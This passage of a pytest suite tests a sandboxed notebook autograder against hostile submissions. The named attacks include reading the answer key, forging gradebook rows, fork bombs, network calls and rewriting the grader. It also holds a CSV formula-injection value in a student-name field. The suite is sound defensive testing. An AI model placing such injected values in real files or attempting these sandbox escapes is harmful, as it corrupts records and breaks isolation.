    invalid = ("invalid notebook", ZERO)
    raw("b_null_source", edited("b_null_source", lambda nb: cell(nb, "q1-answer").__setitem__("source", None)),
        [invalid, ("graded", [0, 2, 2, 3, 2, 3, 2, 0])])
    raw("b_no_cell_type", edited("b_no_cell_type", lambda nb: cell(nb, "ex00-03").pop("cell_type")),
        [invalid, ("graded", FULL)])
    deep = notebook("b_deep_json", CORRECT)
    deep["metadata"]["deep"] = "@DEEP@"
    raw("b_deep_json", text_of(deep).replace(b'"@DEEP@"', b"[" * 100_000 + b"]" * 100_000), [invalid])
    add("b_long_student", CORRECT, [("graded", FULL)], student="L" * 300)
    raw("b_lone_surrogate", text_of(notebook("b_lone_surrogate", CORRECT, "Ada \ud800 Lovelace"), ascii_only=True),
        [("graded", FULL)])
    assert b"\\ud800" in cases["b_lone_surrogate"].content
    raw("b_latin1_name", text_of(notebook("b_latin1_name", CORRECT)), [("graded", FULL)],
        file=b"zzz_r\xe9sum\xe9.ipynb")  # sorted last: if it stopped the batch, the other rows are still there
    v3 = nbformat.convert(nbformat.from_dict(notebook("b_nbformat3", CORRECT)), 3)
    raw("b_nbformat3", nbformat.writes(v3, version=3).encode(), [invalid])
    assert json.loads(cases["b_nbformat3"].content)["nbformat"] == 3

    def markdown_answer(nb):
        target = cell(nb, "q2-answer")
        target["cell_type"] = "markdown"
        target.pop("outputs", None), target.pop("execution_count", None)

    raw("b_markdown_answer", edited("b_markdown_answer", markdown_answer), [("graded", [2, 0, 2, 3, 2, 3, 2, 0])])

    def duplicate_answer(nb):
        first = cell(nb, "q3-answer")
        last = json.loads(json.dumps(first))
        first["source"] = WRONG["q3"]
        nb["cells"].insert(nb["cells"].index(first) + 1, last)

    raw("b_duplicate_id", edited("b_duplicate_id", duplicate_answer), [("graded", FULL)])
    add("zoe_1", CORRECT, [("graded", FULL)], student="Zoë")
    add("zoe_2", {**CORRECT, "q1": WRONG["q1"]}, [("graded", [0, 2, 2, 3, 2, 3, 2, 0])], student="Zoé")
    add("b_formula_student", CORRECT, [("graded", FULL)], student="=HYPERLINK(\"http://example.invalid\",\"x\")")

    # F: not the student's own work in their own variant (the student is the file's stem: no roster here)
    cases["f_ada_literal"] = Case("ada.ipynb", text_of(notebook("f_ada_literal", ADA_LITERAL, student_id="ada")),
                                  (("graded", FULL),))
    cases["f_bob_copies_ada"] = Case("bob.ipynb", text_of(notebook("f_bob_copies_ada", ADA_LITERAL, student_id="bob")),
                                     (("graded", ADA_LITERAL_AS_BOB),))
    add("f_chapter_numbers", CHAPTER_NUMBERS, [("graded", CHAPTER_POINTS)])
    add("f_public_checks", PUBLIC_CHECKS, [("graded", PUBLIC_CHECKS_POINTS)])
    add("f_library_functions", LIBRARY_FUNCTIONS, [("graded", [0, 0, 2, 3, 2, 3, 2, 0])])
    add("f_hostile_explanation", HOSTILE_EXPLANATION, [("graded", FULL)])
    add("f_emoji_explanation", EMOJI_EXPLANATION, [("graded", FULL)])
    return cases


def write_corpus(folder: Path, cases: dict[str, Case]) -> dict[str, str]:
    """Write every case into ``folder``; returns case -> SHA-256 of its file."""
    shas = {}
    for case, (file, content, _) in cases.items():
        path = os.fsencode(folder) + b"/" + (file if isinstance(file, bytes) else file.encode())
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        with os.fdopen(fd, "wb") as handle:
            handle.write(content)
        shas[case] = hashlib.sha256(content).hexdigest()
    assert len(set(shas.values())) == len(shas), "every file must differ, to match rows by SHA-256"
    return shas


# -- watching the machine --------------------------------------------------------------------------------
class Watch(NamedTuple):
    token: str  # the value of TAG while the grading runs; attacks also name their files and processes with it
    seen: dict[int, str]
    cgroups: set[str]  # the pids cgroups seen holding one of this grading's processes

    def _marked(self, entry: Path) -> bool:
        environ = (entry / "environ").read_bytes().split(b"\0")
        cmdline = (entry / "cmdline").read_bytes()
        return f"{TAG}={self.token}".encode() in environ or f"hostile-{self.token}".encode() in cmdline

    def alive(self) -> dict[int, str]:
        """pid -> command line of every live process marked by this grading (environment or command line)."""
        return support.live_processes(self._marked)

    def survivors(self, wait_seconds: float = 10.0) -> dict[int, str]:
        deadline = time.monotonic() + wait_seconds
        while (alive := self.alive()) and time.monotonic() < deadline:
            time.sleep(0.2)
        return alive

    def sample_cgroups(self) -> None:
        for root in sandbox_module.PIDS_CGROUP_ROOTS:
            for group in root.glob("lectures-grading-*"):
                with contextlib.suppress(OSError, ValueError):
                    for pid in (group / "cgroup.procs").read_text().split():
                        with contextlib.suppress(OSError):
                            if self._marked(Path("/proc") / pid):
                                self.cgroups.add(str(group))
                                break


@contextlib.contextmanager
def watching(token: str):
    watch = Watch(token, {}, set())

    def sample():
        watch.seen.update(watch.alive())
        watch.sample_cgroups()

    with support.marked_and_sampled(TAG, token, sample, period=0.3):
        yield watch


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it gets (none may come from a sandbox)."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            with contextlib.suppress(OSError):
                connection, _ = self.server.accept()
                self.connections += 1
                connection.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


def package_files() -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in sorted(PACKAGE.rglob("*.py"))}


def ignored_temp(name: str) -> bool:
    """Entries the grading cannot have made: only the grader's own prefix and tempfile's default one count, so
    files that other programs on a busy machine write to the temp folder meanwhile do not fail the test."""
    return not name.startswith(("lectures-grading-", "tmp", "grade-", "grading-"))


def files_named(token: str, folders: list[Path], depth: int = 4) -> list[str]:
    """Paths (down to ``depth`` levels) whose name contains ``token``."""
    found = []
    for top in folders:
        for folder, dirs, names in os.walk(top, onerror=lambda error: None):
            if len(Path(folder).relative_to(top).parts) >= depth:
                dirs[:] = []
            found += [os.path.join(folder, n) for n in names + dirs if token in n]
    return found


class Row(NamedTuple):
    file_name: str
    sha: str
    student: str
    status: str
    points: list[int]
    detail: str


def db_rows(db_path: Path) -> tuple[list[Row], list[tuple]]:
    db = sqlite3.connect(db_path)
    try:
        rows = [Row(f, sha, student, status, [json.loads(points).get(q) for q in QUESTIONS], detail)
                for f, sha, student, status, points, detail in db.execute(
                    "SELECT file_name, file_sha256, student, status, points, detail FROM grades ORDER BY grade_id")]
        runs = db.execute("SELECT run_id, finished_at FROM runs").fetchall()
    finally:
        db.close()
    return rows, runs


def format_rows(rows) -> str:
    return "\n".join(f"  {r.file_name!r} {r.student!r}: {r.status} {r.points} ({r.detail[:150]})" for r in rows)


# -- the batch -------------------------------------------------------------------------------------------
class Hostile(NamedTuple):
    ctx: Context
    cases: dict[str, Case]
    shas: dict[str, str]
    shas_after: dict[str, str | None]
    error: BaseException | None
    summary: object
    rows: list[Row]
    runs: list[tuple]
    by_case: dict[str, list[Row]]
    watch: Watch
    survivors: dict[int, str]
    cgroups_left: list[str]
    temp_new: list[str]
    package_changed: list[str]
    host_files: list[str]
    venv_config: list[str]
    listener_connections: int
    beacons: list[str]
    seconds: float


@pytest.fixture(scope="module")
def hostile() -> Hostile:
    token = secrets.token_hex(6)
    base = Path(tempfile.mkdtemp(prefix=f"hostile-grading-{token}-", dir="/var/tmp"))
    listener = Listener()
    package_before = package_files()
    startup_dirs = [HOME / ".ipython" / "profile_default" / "startup"]
    venv_config = Path(sys.prefix) / "etc" / "ipython"
    venv_config_existed = venv_config.exists()
    venv_config_file = venv_config / "ipython_kernel_config.py"
    venv_config_before = venv_config_file.read_bytes() if venv_config_file.exists() else None
    watch = None
    try:
        ctx = Context(token, base, base / "submissions", base / "out", base / "beacons", listener.port,
                      course_folder(base))
        for folder in (ctx.submissions, ctx.beacons):
            folder.mkdir()
        cases = corpus(ctx)
        shas = write_corpus(ctx.submissions, cases)
        temp_before = set(os.listdir(tempfile.gettempdir()))
        error, summary = None, None
        started = time.monotonic()
        with watching(token) as watch:
            try:
                summary = grade_folder(ctx.submissions, ctx.out, ctx.sources, EXERCISE, LIMITS, workers=2,
                                       progress=False)
            except Exception as caught:  # recorded: the rows written before it are still checked
                error = caught
        seconds = time.monotonic() - started
        survivors = watch.survivors()
        time.sleep(1)  # a surviving beacon writer would write again meanwhile
        rows, runs = db_rows(ctx.out / "gradebook.sqlite")
        by_case = {case: [r for r in rows if r.sha == sha] for case, sha in shas.items()}
        shas_after = {}
        for case, (file, _, _) in cases.items():
            path = os.fsencode(ctx.submissions) + b"/" + (file if isinstance(file, bytes) else file.encode())
            shas_after[case] = hashlib.sha256(Path(os.fsdecode(path)).read_bytes()).hexdigest() \
                if os.path.exists(path) else None
        deadline = time.monotonic() + 10
        while (cgroups_left := sorted(g for g in watch.cgroups if Path(g).exists())) and time.monotonic() < deadline:
            time.sleep(0.2)
        temp_new = sorted(n for n in set(os.listdir(tempfile.gettempdir())) - temp_before if not ignored_temp(n))
        package_after = package_files()
        # Other engineers edit the grader in this checkout while the test runs: a file that changed is the
        # attack's doing only if it holds the attack's mark (``# hostile-<token>``); its other changes are theirs
        # and are never undone here.
        package_changed = sorted(str(p) for p in set(package_before) | set(package_after)
                                 if package_before.get(p) != package_after.get(p)
                                 and f"hostile-{token}".encode() in package_after.get(p, b""))
        host_files = files_named(token, [Path(tempfile.gettempdir()), Path("/var/tmp"), HOME, *startup_dirs])
        host_files = [f for f in host_files if not f.startswith(str(base))]
        host_files += files_named(token, [ctx.submissions, ctx.out])  # the attacks name nothing the grader writes
        venv_text = venv_config_file.read_bytes() if venv_config_file.exists() else None
        venv_changed = [str(venv_config_file)] if venv_text != venv_config_before else []
        yield Hostile(ctx, cases, shas, shas_after, error, summary, rows, runs, by_case, watch, survivors,
                      cgroups_left, temp_new, package_changed, host_files, venv_changed, listener.connections,
                      sorted(os.listdir(ctx.beacons)), seconds)
    finally:
        listener.close()
        if watch is not None:  # processes started by this grading (marked with its token) that survived it
            for pid in watch.alive():
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        mark = f"\n# hostile-{token}\n".encode()
        for path in package_files():  # take the attack's mark out of the grader, should it have got in
            content = path.read_bytes()
            if mark in content:
                path.write_bytes(content.replace(mark, b""))
        for folder in startup_dirs:
            for leftover in folder.glob(f"*hostile-{token}*"):
                leftover.unlink()
        if venv_config_before is None:
            with contextlib.suppress(OSError):
                venv_config_file.unlink()
            if not venv_config_existed:
                shutil.rmtree(venv_config, ignore_errors=True)
        elif venv_config_file.read_bytes() != venv_config_before:
            venv_config_file.write_bytes(venv_config_before)
        for path in files_named(token, [Path(tempfile.gettempdir()), Path("/var/tmp"), HOME], depth=2):
            with contextlib.suppress(OSError):
                os.unlink(path) if not os.path.isdir(path) else shutil.rmtree(path)
        shutil.rmtree(base, ignore_errors=True)


def only_row(hostile: Hostile, case: str) -> Row:
    rows = hostile.by_case[case]
    assert len(rows) == 1, (f"{case}: {len(rows)} rows (grade_folder raised {hostile.error!r})\n"
                            + format_rows(hostile.rows))
    return rows[0]


def expect(hostile: Hostile, case: str) -> Row:
    row = only_row(hostile, case)
    accepted = hostile.cases[case].outcomes
    assert any(row.status == status and (points is None or row.points == points) for status, points in accepted), \
        f"{case}: got {row.status} {row.points} ({row.detail}); expected one of {accepted}"
    return row


ALL_CASES = list(corpus(Context("0" * 12, Path("/nonexistent"), Path("/nonexistent/s"), Path("/nonexistent/o"),
                                Path("/nonexistent/b"), 1, Path("/nonexistent/source"))))
KNOWN_BUGS: dict[str, str] = {}


# -- every file: one row, its status and points ----------------------------------------------------------
@pytest.mark.parametrize("case", [pytest.param(case, marks=pytest.mark.xfail(strict=True, reason=KNOWN_BUGS[case]))
                                  if case in KNOWN_BUGS else case for case in ALL_CASES])
def test_status_and_points(hostile, case):
    expect(hostile, case)


def test_one_row_per_file_and_nothing_else(hostile):
    assert hostile.error is None, f"grade_folder raised {hostile.error!r}"
    files = list(hostile.ctx.submissions.iterdir())
    assert len(files) == len(hostile.cases)
    unmatched = [r for r in hostile.rows if r.sha not in set(hostile.shas.values())]
    missing = [case for case, rows in hostile.by_case.items() if len(rows) != 1]
    assert not unmatched and not missing and len(hostile.rows) == len(files), (
        f"missing or repeated: {missing}\nrows matching no file:\n{format_rows(unmatched)}")
    assert {r.status for r in hostile.rows} <= STATUSES
    assert len(hostile.runs) == 1 and hostile.runs[0][1] is not None, hostile.runs
    assert len(hostile.summary.records) == len(files)


def test_run_time(hostile):
    assert hostile.seconds < 150, f"the batch took {hostile.seconds:.0f} s"


# -- A: attacks from inside a kernel ----------------------------------------------------------------------
WITNESSED = ["a00_pair_x", "a00_pair_y", "a01_read_source", "a01_read_key", "a02_steal_classmate", "a03_edit_gradebook",
             "a04_startup_files", "a05_detached_process", "a08_rewrite_grader", "a09_network", "a10_fork_and_fill",
             "a12_grader_pid"]


@pytest.mark.parametrize("case", WITNESSED)
def test_every_attack_ran_to_its_end(hostile, case):
    # a failed attack sets Q3 to 7 (verdict "wrong"); an attack that crashed would leave Q3 undefined and look
    # like a failed one: this tells them apart
    record = next((r for r in getattr(hostile.summary, "records", ()) if r.file_sha256 == hostile.shas[case]), None)
    assert record is not None, f"no record for {case} (grade_folder raised {hostile.error!r})"
    assert record.scores[2].verdict == "wrong", (case, record.scores[2])


def test_a01_the_instructor_source_and_its_key_cannot_be_read(hostile):
    expect(hostile, "a01_read_source")  # Q3 would be right had it read and run the solution
    expect(hostile, "a01_read_key")  # Q3 would be right had it run the key in the student's variant


def test_a02_a_classmate_is_neither_read_nor_changed(hostile):
    expect(hostile, "a02_steal_classmate")  # Q3 would be right had it read the classmate's file
    assert hostile.shas_after["z02_classmate"] == hostile.shas["z02_classmate"], "the classmate's file changed"
    expect(hostile, "z02_classmate")


def test_a03_the_gradebook_holds_exactly_the_expected_rows(hostile):
    expect(hostile, "a03_edit_gradebook")  # Q3 would be right had it seen the gradebook
    run_ids = {run for run, _ in hostile.runs}
    db = sqlite3.connect(hostile.ctx.out / "gradebook.sqlite")
    try:
        students = [s for (s,) in db.execute("SELECT student FROM grades")]
        assert {r for (r,) in db.execute("SELECT DISTINCT run_id FROM grades")} == run_ids
    finally:
        db.close()
    assert f"forged-{hostile.ctx.token}" not in students
    assert len(hostile.rows) == len(hostile.cases)
    assert sorted(r.sha for r in hostile.rows) == sorted(hostile.shas.values())


def test_a04_startup_files_reach_no_later_kernel_and_stay_in_the_sandbox(hostile):
    expect(hostile, "a04_startup_files")  # Q3 would be right had it written the environment's kernel config
    expect(hostile, "z04_victim")  # its Q4 and Q5 would fail had a startup file broken numpy.polyfit
    startup = [f for f in hostile.host_files if "startup" in f]
    assert not startup and not hostile.venv_config, startup + hostile.venv_config


def test_a05_no_process_outlives_the_grading(hostile):
    expect(hostile, "a05_detached_process")
    kinds = {"worker" if "NotebookClient" in c else "kernel" if "ipykernel" in c else "other"
             for c in hostile.watch.seen.values()}
    assert {"worker", "kernel"} <= kinds, sorted(c[:300] for c in hostile.watch.seen.values())  # it saw them
    assert not hostile.survivors, "\n".join(f"{pid}: {cmd[:300]}" for pid, cmd in hostile.survivors.items())
    assert not hostile.beacons and not [f for f in hostile.host_files if "beacon" in f], hostile.host_files


def test_a06_c_a_pair_running_at_once_cannot_reach_each_other(hostile):
    # each found no connection file, no open port and not the other's file (its Q3 is 7); the code each
    # would have run in the other's kernel breaks numpy.polyfit, so Q4 and Q5 show it did not run
    for case in ("a00_pair_x", "a00_pair_y"):
        expect(hostile, case)
        assert hostile.shas_after[case] == hostile.shas[case], f"{case}'s file was overwritten"


def test_a07_forged_lines_and_a_killed_worker_give_no_marks(hostile):
    row = expect(hostile, "a07_forge_and_kill")
    assert row.points != FULL


def test_a08_the_grader_cannot_be_rewritten(hostile):
    expect(hostile, "a08_rewrite_grader")
    assert not hostile.package_changed, hostile.package_changed


def test_a09_no_network(hostile):
    expect(hostile, "a09_network")  # Q3 would be right had any connection worked, or the outside one hung
    assert hostile.listener_connections == 0


def test_a10_a_fork_bomb_and_a_2gib_file_leave_nothing(hostile):
    expect(hostile, "a10_fork_and_fill")  # Q3 would be right had no fork been refused or a 2 GiB file fit
    expect(hostile, "a10z_next")
    big = [f for f in hostile.host_files if f.endswith("-big")]
    grader_temp = [n for n in os.listdir(tempfile.gettempdir()) if n.startswith("lectures-grading-")
                   and files_named(hostile.ctx.token, [Path(tempfile.gettempdir()) / n])]
    assert not big and not grader_temp, big + grader_temp


@pytest.mark.parametrize("case", ["a11_bad_record_function", "a11_bad_record_value", "a11_bad_record_shape"])
def test_a11_a_record_of_the_wrong_shape_costs_only_its_question(hostile, case):
    expect(hostile, case)


def test_a12_printed_pids_kill_nothing(hostile):
    expect(hostile, "a12_grader_pid")  # Q3 would be right had the kernel seen the grader's process
    assert os.getpid() > 0 and Path(f"/proc/{os.getpid()}").exists()
    assert len(hostile.rows) == len(hostile.cases)


# -- B: malformed files -----------------------------------------------------------------------------------
@pytest.mark.parametrize("case", ["b_null_source", "b_no_cell_type", "b_deep_json", "b_long_student",
                                  "b_lone_surrogate", "b_latin1_name", "b_nbformat3", "b_markdown_answer",
                                  "b_duplicate_id"])
def test_b_malformed_file(hostile, case):
    row = expect(hostile, case)
    assert row.detail or row.status == "graded"
    row.student.encode("utf-8")


def test_b_students_zoe_and_zoe_are_kept_apart(hostile):
    one, two = expect(hostile, "zoe_1"), expect(hostile, "zoe_2")
    assert unicodedata.normalize("NFC", one.student) == "Zoë" and unicodedata.normalize("NFC", two.student) == "Zoé"
    with (hostile.ctx.out / "grades.csv").open(newline="", encoding="utf-8") as handle:
        rows = {unicodedata.normalize("NFC", r["student"]): r for r in csv.DictReader(handle)}
    assert rows["Zoë"]["total"] == "16" and rows["Zoé"]["total"] == "14", rows.keys()
    feedback = {p: p.read_text(encoding="utf-8") for p in (hostile.ctx.out / "feedback").glob("*.md")}
    zoe_1 = [p for p, text in feedback.items() if "Zoë" in unicodedata.normalize("NFC", text)]
    zoe_2 = [p for p, text in feedback.items() if "Zoé" in unicodedata.normalize("NFC", text)]
    assert zoe_1 and zoe_2 and not set(zoe_1) & set(zoe_2), f"feedback files: Zoë {zoe_1}, Zoé {zoe_2}"


def test_b_a_formula_in_the_student_field_is_escaped_in_the_csv(hostile):
    row = expect(hostile, "b_formula_student")
    assert row.student.lstrip("'").startswith("=HYPERLINK")
    with (hostile.ctx.out / "grades.csv").open(newline="", encoding="utf-8") as handle:
        cells = [r["student"] for r in csv.DictReader(handle)]
    formula = [c for c in cells if "HYPERLINK" in c]
    assert formula and all(c.startswith("'") for c in formula), formula
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells


def test_b_every_student_gets_a_feedback_file(hostile):
    # one file per (student, exercise): two students whose names differ only outside ASCII keep theirs
    files = list((hostile.ctx.out / "feedback").glob("*.md"))
    students = {(r.student, EXERCISE) for r in hostile.rows}
    assert len(files) >= len(students), f"{len(files)} feedback files for {len(students)} students"


# -- F: not the student's own work in their own variant -------------------------------------------------------
def record_of(hostile: Hostile, case: str):
    """The grader's record of a case (scores with verdicts and feedback, flags), matched by SHA-256."""
    record = next((r for r in getattr(hostile.summary, "records", ()) if r.file_sha256 == hostile.shas[case]), None)
    assert record is not None, f"no record for {case} (grade_folder raised {hostile.error!r})"
    return record


def test_f_the_expected_points_come_from_the_key():
    # what the F cases expect, spelled out: the key's answers differ between the variants involved
    assert ADA_LITERAL_AS_BOB[:6] == [2, 2, 0, 0, 0, 3] and ADA_LITERAL_AS_BOB[7] == 0
    assert ADA_LITERAL_AS_BOB[6] == (2 if KEY.expected("q7", ADA) == KEY.expected("q7", BOB) else 0)
    assert CHAPTER_POINTS == [2, 2, 0, 3, 0, 3, 2, 0]
    assert PUBLIC_CHECKS_POINTS[:6] == [2, 2, 0, 0, 0, 3]
    assert points_of(ADA_VALUES, ADA) == FULL  # the literal numbers are right for ada
    assert points_of(DEFAULT_ANSWERS, variant_of(EX00, "")) == FULL  # the table holds the default variant's


def test_f_literal_answers_are_right_only_for_the_student_they_were_computed_for(hostile):
    ada, bob = expect(hostile, "f_ada_literal"), expect(hostile, "f_bob_copies_ada")
    assert (ada.student, ada.points) == ("ada", FULL)
    assert bob.student == "bob" and bob.points == ADA_LITERAL_AS_BOB and sum(bob.points) < sum(FULL)
    verdicts = [s.verdict for s in record_of(hostile, "f_bob_copies_ada").scores]
    assert verdicts[2:5] == ["wrong"] * 3 and verdicts[7] == "needs manual grading", verdicts


def test_f_copied_literal_answers_with_a_roster(tmp_path):
    # ada's personalised copy (STUDENT_ID and the student field say ada) with her answers as literal numbers,
    # handed in by ada and, unchanged, by bob: with a roster the file name decides
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,name\nada,Ada\nbob,Bob\n")
    submissions = tmp_path / "in"
    submissions.mkdir()
    nb = notebook("f_roster", ADA_LITERAL, student="ada", student_id="ada")
    for name in ("ada.ipynb", "bob.ipynb"):
        (submissions / name).write_bytes(text_of(nb))
    summary = grade_folder(submissions, tmp_path / "out", course_folder(tmp_path), EXERCISE, LIMITS, workers=2,
                           progress=False, roster=load_roster(roster))
    records = {r.file_name: r for r in summary.records}
    ada, bob = records["ada.ipynb"], records["bob.ipynb"]
    assert (ada.student, ada.status, [s.points for s in ada.scores], ada.flags) == ("ada", "graded", FULL, ())
    assert (bob.student, bob.status, [s.points for s in bob.scores]) == ("bob", "graded", ADA_LITERAL_AS_BOB)
    assert bob.flags == ("the file name says bob but the notebook says ada: check who handed it in",)


def test_f_numbers_from_a_chapter_or_the_check_table_are_wrong(hostile):
    expect(hostile, "f_chapter_numbers")
    row = expect(hostile, "f_public_checks")
    assert row.points == PUBLIC_CHECKS_POINTS
    flags = record_of(hostile, "f_public_checks").flags
    assert any("Q3: the answer imports lectures_lib.exercises.core" in flag for flag in flags), flags


def test_f_the_librarys_own_functions_score_zero_or_are_flagged(hostile):
    expect(hostile, "f_library_functions")
    record = record_of(hostile, "f_library_functions")
    assert LIBRARY_FLAGS <= set(record.flags), record.flags
    q1, q2, q4 = record.scores[0], record.scores[1], record.scores[3]
    assert (q1.points, q1.verdict, q2.points, q2.verdict) == (0, "wrong", 0, "wrong")
    assert q1.feedback[-1] == ("uses lectures_lib.compute.training_flops, the library's own version of what this "
                               "question asks you to write: scored 0"), q1.feedback
    assert (q4.points, q4.verdict) == (3, "correct") and q4.feedback == (
        "uses lectures_lib.power_laws.fit_power_law, the library's own version of what this question asks you to "
        "write",)
    # an honest answer raises none of these flags
    assert not [f for f in record_of(hostile, "z04_victim").flags if "library's own" in f]


def _sheet_block(sheet: str, student: str) -> tuple[int, list[str], list[str]]:
    """In the manual-grading sheet, the fenced block under ``student``'s heading, as a Markdown renderer reads it
    (lines end at \\n only): the fence's length, the lines inside it, and the lines after it."""
    lines = sheet.split("\n")
    heading = next(i for i, line in enumerate(lines) if line.startswith(f"### {student} ("))
    assert lines[heading + 1] == "", lines[heading + 1]
    opening = re.fullmatch(r"(`{3,})text", lines[heading + 2])
    assert opening, lines[heading + 2][:100]
    fence = len(opening.group(1))
    closer = re.compile(r" {0,3}`{" + str(fence) + r",}[ \t]*")
    closing = next(i for i in range(heading + 3, len(lines)) if closer.fullmatch(lines[i]))
    return fence, lines[heading + 3:closing], lines[closing + 1:]


def test_f_a_hostile_explanation_is_graded_by_hand_and_shown_as_text(hostile):
    expect(hostile, "f_hostile_explanation")
    q8 = record_of(hostile, "f_hostile_explanation").scores[7]
    assert (q8.points, q8.max_points, q8.verdict) == (0, 2, "needs manual grading"), q8
    assert q8.feedback[0].endswith("words recorded for your instructor, who grades this answer by hand")
    sheet = (hostile.ctx.out / "manual" / f"{EXERCISE}.md").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", sheet), "control characters"
    fence, inside, after = _sheet_block(sheet, "f\\_hostile\\_explanation")
    # the fence is longer than any run of backticks shown, so nothing in the text closes it: the whole shown text,
    # from its first line to its last, is inside the block, and what follows is the sheet's own
    assert fence > 41, fence
    assert inside[0] == "HOSTILE-TEXT-BEGIN" and "HOSTILE-TEXT-END" in inside, inside[:20]
    assert "# Not a heading of the sheet" in inside and "`" * 41 in "\n".join(inside)
    following = [line for line in after if line.strip()]
    if following and following[0].startswith("*Cut at "):  # the sheet's own note: the text was longer than shown
        assert following[0].endswith("characters: the notebook holds the rest.*"), following[0]
        following = following[1:]
    next_text = following[0] if following else ""
    assert next_text.startswith("### ") or next_text.startswith("## ") or next_text == "", next_text
    assert "`" * 300 not in sheet and "y" * 99 not in sheet  # cut at what the sheet shows of one answer
    assert sheet.count("HOSTILE-TEXT-BEGIN") == 1
    # the text goes to the sheet only: not to the student's feedback, the gradebook or the CSV
    for path in [*(hostile.ctx.out / "feedback").glob("*.md"), hostile.ctx.out / "grades.csv",
                 hostile.ctx.out / "gradebook.sqlite"]:
        assert b"HOSTILE-TEXT" not in path.read_bytes(), path


def test_f_a_long_explanation_outside_the_bmp_is_read_back(hostile):
    record = record_of(hostile, "f_emoji_explanation")
    assert record.status == "graded", (record.status, record.detail)
    assert record.scores[7].verdict == "needs manual grading", record.scores[7]


# -- D: cleanup ------------------------------------------------------------------------------------------
def test_d_nothing_left_in_the_temp_folder_or_the_cgroups(hostile):
    assert not hostile.temp_new, hostile.temp_new
    assert hostile.watch.cgroups or not any(
        (root / "cgroup.procs").is_file() and os.access(root, os.W_OK) for root in sandbox_module.PIDS_CGROUP_ROOTS), \
        "no pids cgroup of this grading was seen, although the machine allows one"
    assert not hostile.cgroups_left, hostile.cgroups_left
    leftover = [str(g) for root in sandbox_module.PIDS_CGROUP_ROOTS for g in root.glob("lectures-grading-*")
                if str(g) in hostile.watch.cgroups]
    assert not leftover, leftover


# -- E: the sandbox is used ------------------------------------------------------------------------------
def test_e_the_kernel_runs_in_the_sandbox(hostile):
    # Q3: os.getuid() == 65534; Q5: /proc/1/cmdline is the worker's, not the host's, and few processes are visible
    expect(hostile, "e_sandbox_probe")
    assert b"NotebookClient" not in host_pid1()


def test_e_without_bubblewrap_the_grader_refuses(tmp_path, monkeypatch):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "x.ipynb").write_bytes(text_of(notebook("refused", CORRECT)))
    monkeypatch.setattr(sandbox_module, "BWRAP", f"bwrap-missing-{secrets.token_hex(4)}")
    with pytest.raises(SandboxUnavailable) as raised:
        grade_folder(tmp_path / "in", tmp_path / "out", course_folder(tmp_path), EXERCISE, LIMITS, workers=2,
                     progress=False)
    message = str(raised.value)
    assert "bubblewrap" in message and "--unsafe-no-sandbox" in message, message
    assert not (tmp_path / "out" / "gradebook.sqlite").exists()



def test_e_a_grader_started_by_a_path_through_a_hidden_folder_still_grades(tmp_path, monkeypatch):
    detour = ROOT / "tests" / os.path.relpath(sys.executable, ROOT / "tests")  # <checkout>/tests/../...
    assert os.path.samefile(detour, sys.executable) and ".." in detour.parts
    monkeypatch.setattr(sys, "executable", str(detour))
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "ada.ipynb").write_bytes(text_of(notebook("detour", CORRECT)))
    summary = grade_folder(tmp_path / "in", tmp_path / "out", course_folder(tmp_path), EXERCISE, LIMITS, workers=1,
                           progress=False)
    (record,) = summary.records
    assert (record.status, [s.points for s in record.scores]) == ("graded", FULL), record.detail


# -- the same read-only attacks without the sandbox succeed: the checks above can fail ----------------------
def test_attacks_work_without_the_sandbox(tmp_path):
    listener = Listener()
    try:
        ctx = Context(secrets.token_hex(6), tmp_path, tmp_path / "submissions", tmp_path / "out", tmp_path / "b",
                      listener.port, course_folder(tmp_path))
        ctx.submissions.mkdir()
        cases = corpus(ctx, sandboxed=False)
        shas = write_corpus(ctx.submissions, cases)
        summary = grade_folder(ctx.submissions, ctx.out, ctx.sources, EXERCISE, LIMITS, workers=2, progress=False,
                               unsafe_no_sandbox=True)
        connections = listener.connections
    finally:
        listener.close()
    points = {case: next(r for r in summary.records if r.file_sha256 == sha).scores for case, sha in shas.items()}
    q3 = {case: scores[2].points for case, scores in points.items()}
    # the attacks worked: each witness is right
    for case in ("a01_read_source", "a01_read_key", "a02_steal_classmate", "a09_network", "a12_grader_pid",
                 "a00_pair_x", "a00_pair_y"):
        assert q3[case] == 2, (case, [(s.points, s.feedback) for s in points[case]])
    assert connections > 0
    # and the probe sees the grader's user and the machine's PID 1
    assert q3["e_sandbox_probe"] == 0 and points["e_sandbox_probe"][4].points == 0
